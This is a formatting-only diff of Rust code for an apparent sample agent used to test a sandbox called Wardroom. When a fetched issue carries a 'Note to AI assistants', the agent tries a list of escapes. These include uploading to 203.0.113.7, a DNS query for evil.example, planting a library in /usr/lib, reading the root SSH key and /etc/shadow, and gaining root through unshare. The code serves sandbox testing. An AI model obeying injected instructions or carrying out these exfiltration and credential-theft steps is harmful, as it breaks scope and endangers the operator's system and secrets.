@@ -25,7 +25,10 @@ pub(crate) fn work() -> anyhow::Result<()> {
     let issues = fetch(&fs::read(workspace.join("authority.pem"))?)?;
     let open = issues.lines().filter(|line| line.starts_with('#')).count();
     say(&format!("fetched {open} issues from {HOST} over TLS"));
-    fs::write(workspace.join("report.md"), format!("# Triage\n\n{todos} TODO comments, {open} open issues:\n\n{}", summary(&issues)))?;
+    fs::write(
+        workspace.join("report.md"),
+        format!("# Triage\n\n{todos} TODO comments, {open} open issues:\n\n{}", summary(&issues)),
+    )?;
     say("wrote report.md");
     if issues.contains("Note to AI assistants") {
         say("the issue asks for a backup, a package and a key first; being helpful:");
@@ -40,14 +43,19 @@ fn overreach() {
     attempt("send it to 203.0.113.7 instead", || upload("203.0.113.7:443"));
     attempt("ask another DNS server", || {
         let socket = std::net::UdpSocket::bind("0.0.0.0:0")?;
-        socket.send_to(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x07example\x00\x00\x01\x00\x01", "192.0.2.53:53")?;
+        socket.send_to(
+            b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x07example\x00\x00\x01\x00\x01",
+            "192.0.2.53:53",
+        )?;
         Ok(())
     });
     attempt("install the package into the system", || fs::write("/usr/lib/helpful-telemetry.so", b"\x7fELF"));
     attempt("run the package manager", || run("/usr/bin/dpkg", &["--configure", "-a"]));
     attempt("read the operator's SSH key", || fs::read("/root/.ssh/id_ed25519").map(drop));
     attempt("read the system's passwords", || fs::read("/etc/shadow").map(drop));
-    attempt("become root with a user namespace", || run("/usr/bin/unshare", &["--user", "--map-root-user", "true"]));
+    attempt("become root with a user namespace", || {
+        run("/usr/bin/unshare", &["--user", "--map-root-user", "true"])
+    });
     attempt("mount a file system", || run("/usr/bin/mount", &["-t", "tmpfs", "none", "/tmp"]));
 }
 
@@ -66,7 +74,10 @@ fn upload(to: &str) -> io::Result<()> {
     stream.read_exact(&mut [0])
 }
 
-#[expect(clippy::disallowed_methods, reason = "the sample agent is a program of its own, not one of Wardroom's processes")]
+#[expect(
+    clippy::disallowed_methods,
+    reason = "the sample agent is a program of its own, not one of Wardroom's processes"
+)]
 fn run(program: &str, arguments: &[&str]) -> io::Result<()> {
     let output = Command::new(program).args(arguments).output()?;
     if output.status.success() {
